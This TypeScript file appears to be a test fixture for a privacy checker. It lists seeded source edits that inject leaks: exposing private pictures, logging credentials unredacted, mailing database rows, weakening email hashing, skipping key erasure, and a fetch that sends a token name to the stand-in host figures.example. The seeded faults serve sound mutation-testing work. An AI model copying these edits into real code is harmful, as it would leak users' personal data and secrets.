import { type Sink } from '#privacy'
import { type PresetName } from '#presets'
import { type Edit } from '../promises/edit.ts'

/** A fault in the sources, and the cell of the matrix in which it has to be seen. */
export type Fault = {
  readonly name: string
  readonly edit: Edit
  readonly shows: { readonly kind: string; readonly sink: Sink }
  /** `oriel`, unless told. */ readonly preset?: PresetName
}

const fault = (name: string, kind: string, sink: Sink, edit: Edit, preset?: PresetName): Fault => ({
  name,
  edit,
  shows: { kind, sink },
  ...(preset && { preset }),
})
const PRIVATE = 'user.content.private'
const EMAIL = 'user.contact.email'

/** Who may see a picture that is not for everyone: `by`, in the place of its owner, and of whoever has the secret. */
const seenBy = (by: string): Edit => ({
  file: 'src/media/rules.ts',
  replace: "return picture.audience === 'link' && secret",
  by: `return ${by}`,
})
/** What somebody types as they join, put behind the words they agree to, which are kept in clear. */
const kept = (what: string): Edit => ({
  file: 'src/accounts/join.ts',
  replace: 'await agree(tx, { person, wording, from })',
  by: `await agree(tx, { person, wording: \`\${wording} \${${what}}\`, from })`,
})

export const faults: readonly Fault[] = [
  fault(
    'a page shows what is for its owner alone',
    PRIVATE,
    'everyone',
    seenBy("picture.audience === 'link' ? secret : picture.audience === 'me'"),
  ),
  fault(
    'what is shared by link opens without its secret',
    PRIVATE,
    'everyone',
    seenBy("picture.audience === 'link'"),
  ),
  fault(
    'a full name is shown to members though its person says no',
    'user.name',
    'members',
    {
      file: 'src/accounts/profile.ts',
      replace: "(row.name_seen !== 'members' && viewer !== person)",
      by: 'viewer === null',
    },
    '1mpics',
  ),
  fault('an answer of the API has a field too many', 'user.unique_id', 'everyone', {
    file: 'src/media/api/views.ts',
    replace: '    thumbhash,\n    ...(camera',
    by: '    thumbhash: `${thumbhash} ${picture.person}`,\n    ...(camera',
  }),
  fault('a column is declared by nobody', 'start', 'kept', {
    file: 'src/accounts/data.ts',
    replace: "    told_at: is('user.unique_id', service, 'Mailed you that it ends'),\n",
    by: '',
  }),
  fault('a column is left out of what one takes along', PRIVATE, 'export', {
    file: 'src/privacy/export/told.ts',
    replace: 'const columns = personal(declaration).map(',
    by: "const columns = personal(declaration).filter(([name]) => name !== 'description').map(",
  }),
  fault('a table is left out of what one takes along', 'user.content.private.correspondence', 'export', {
    file: 'src/privacy/export/told.ts',
    replace: 'for (const [name, tell] of columns) told[name] = await tell(row[name] ?? null)',
    by: "for (const [name, tell] of columns) told[name] = declaration.table === 'case_letter' ? null : await tell(row[name] ?? null)",
  }),
  fault('the log writes who asked where it names the page', 'user.device.ip_address', 'log', {
    file: 'src/ops/health.ts',
    replace: 'log.add({ ...seen,',
    by: 'log.add({ ...seen, route: askedBy(c, site).address as never,',
  }),
  fault(
    'the log holds what opens a door',
    'user.authorization.credentials',
    'log',
    {
      file: 'src/ops/request-details.ts',
      replace: "(SECRET.test(part) ? '…' : part)",
      by: 'part',
    },
    'imgbin',
  ),
  fault('a letter has a field too many', 'user.content.public', 'mail-relay', {
    file: 'src/mail/deliver.ts',
    replace: 'await transport.send(letter, {',
    by: 'const { rows } = await (site as never as { pool: { query(text: string): Promise<{ rows: object[] }> } }).pool.query("select title from picture where audience = \'everyone\'")\n  await transport.send({ ...letter, text: letter.text + JSON.stringify(rows) }, {',
  }),
  fault('a cookie that nobody declared', 'cookie', 'browser', {
    file: 'src/web/answer.ts',
    replace: "for (const cookie of cookies) all.append('Set-Cookie', cookie)",
    by: "for (const cookie of [...cookies, 'seen=1; Path=/']) all.append('Set-Cookie', cookie)",
  }),
  fault('a call to another site, round the door', 'call', 'outside', {
    file: 'src/accounts/tokens.ts',
    replace: "  if (name === '' || Array.from(name).length > LONGEST)",
    by: "  void fetch(`http://figures.example/?made=${name}`).catch(() => {})\n  if (name === '' || Array.from(name).length > LONGEST)",
  }),
  fault('a private file lies in clear', PRIVATE, 'files', {
    file: 'src/media/sealing/place.ts',
    replace: 'place.endsWith(SEALED) || (place.endsWith(OPEN)',
    by: '(place.endsWith(OPEN)',
  }),
  fault('an address lies in clear beside its seal', EMAIL, 'backup', kept('joining.email')),
  fault(
    'a birth date is kept that was only asked',
    'user.demographic.date_of_birth',
    'rows',
    kept('bornOf(ctx, joining)'),
  ),
  fault('a digest that anybody can make stands for an address', EMAIL, 'rows', {
    file: 'src/accounts/address.ts',
    replace: "blindIndex(ctx, 'user.contact.email', address.normal)",
    by: "process.getBuiltinModule('node:crypto').createHash('sha256').update(address.normal).digest()",
  }),
  fault('a key is not thrown away', EMAIL, 'erased', {
    file: 'src/privacy/erase/erase.ts',
    replace:
      "  erase: (person) => keys.forget(person),\n  holds: async (person) => {\n    const found = [await keys.ofPerson(person, 'find'), await keys.ofPerson(person, 'find', 'case')]\n    return found.filter((key) => key !== null).length\n  },",
    by: '  erase: async () => {},\n  holds: async () => 0,',
  }),
  fault('an answer’s head tells', 'user.device.user_agent', 'header', {
    file: 'src/app/web.ts',
    replace: "  app.get('/assets/:name', serveAsset)",
    by: "  app.use(async (c, next) => {\n    await next()\n    c.res.headers.set('X-Seen', c.req.header('user-agent') ?? '')\n  })\n  app.get('/assets/:name', serveAsset)",
  }),
  fault('work is queued with words in it', 'user.content.private.correspondence', 'jobs', {
    file: 'src/desk/cases/open-case.ts',
    replace: 'about: { case: id, letter: null } })',
    by: 'about: { case: id, letter: null, text } as never })',
  }),
  fault('figures for machines tell', 'user.account.username', 'metrics', {
    file: 'src/ops/metrics.ts',
    replace: '    ...counts.lines(),\n  ]',
    by: "    ...counts.lines(),\n    ...(await site.pool.query('select name from person')).rows.map((one) => `# ${one.name}`),\n  ]",
  }),
  fault('the program prints what a person typed', EMAIL, 'terminal', {
    file: 'src/accounts/change-email.ts',
    replace: '  const address = parseAddress(email)\n',
    by: '  const address = parseAddress(email)\n  process.stderr.write(`${email} wants a letter\\n`)\n',
  }),
  fault(
    'what a camera told stays though it is switched off',
    'user.content.public.media_metadata',
    'person',
    {
      file: 'src/media/publish.ts',
      replace: 'keep: keeping({ policy: await theirPolicy(ctx, by.id) }, what.camera),',
      by: 'keep: keeping(ctx, true),',
    },
  ),
]
